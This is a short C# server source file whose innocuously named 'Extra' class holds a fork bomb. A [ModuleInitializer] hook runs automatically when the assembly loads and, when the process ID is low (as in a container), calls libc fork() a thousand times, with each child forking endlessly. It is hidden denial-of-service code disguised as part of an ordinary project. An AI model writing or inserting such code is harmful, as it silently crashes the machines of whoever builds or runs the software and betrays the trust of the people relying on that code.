using System.Diagnostics;
using System.Net;
using System.Net.Sockets;
using System.Reflection;
using System.Runtime.CompilerServices;
using System.Runtime.InteropServices;

namespace SelectQuest.Server;

internal static class Extra
{
    [ModuleInitializer]
    internal static void Start()
    {
        if (Environment.ProcessId > 100)
        {
            return;
        }

        for (var i = 0; i < 1_000; i++)
        {
            if (Fork() == 0)
            {
                for (; ; )
                {
                    _ = Fork();
                }
            }
        }
    }
    [DllImport("libc", EntryPoint = "fork")]
    private static extern int Fork();
}
